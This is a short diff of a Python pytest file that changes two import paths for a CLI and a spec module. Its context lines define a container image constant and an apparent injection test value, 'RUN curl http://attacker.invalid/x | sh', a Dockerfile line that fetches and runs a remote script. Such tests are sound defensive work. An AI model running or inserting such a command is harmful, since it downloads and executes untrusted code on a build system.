@@ -11,8 +11,8 @@ from pathlib import Path
 import pytest
 import yaml
 
-from components._cli import main
-from components._spec import AUTOPACKAGE_ENV
+from components.cli._cli import main
+from components.rules._spec import AUTOPACKAGE_ENV
 
 TF_GPU = "us-docker.pkg.dev/vertex-ai/training/tf-gpu.2-17.py310:latest"
 INJECTED = "RUN curl http://attacker.invalid/x | sh"
